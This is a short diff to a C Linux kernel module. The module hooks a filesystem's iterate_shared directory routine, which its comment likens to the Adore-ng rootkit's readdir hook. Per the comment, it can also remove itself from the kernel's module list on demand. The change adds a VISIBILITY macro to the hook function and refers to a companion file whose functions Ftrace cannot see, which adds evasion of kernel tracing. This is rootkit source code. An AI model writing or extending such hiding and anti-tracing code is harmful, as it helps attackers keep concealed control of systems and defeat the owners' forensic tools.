@@ -5,17 +5,22 @@
  * replaced by a copy whose iterate_shared is ours, as Adore-ng replaced
  * readdir. With hide=1, now or later, it is not on the kernel's list of modules,
  * and with hide=0 it is again; nobody else is to load modules meanwhile.
+ * hook_notrace.c is the same with functions that Ftrace does not see.
  */
 #include <linux/fs.h>
 #include <linux/module.h>
 #include <linux/rculist.h>
 #include <linux/timekeeping.h>
 
+#ifndef VISIBILITY
+#define VISIBILITY
+#endif
+
 static const struct file_operations *original;
 static struct file_operations replaced;
 static struct inode *root;
 
-static int passed_on(struct file *file, struct dir_context *context)
+static int VISIBILITY passed_on(struct file *file, struct dir_context *context)
 {
 	int result = original->iterate_shared(file, context);
 
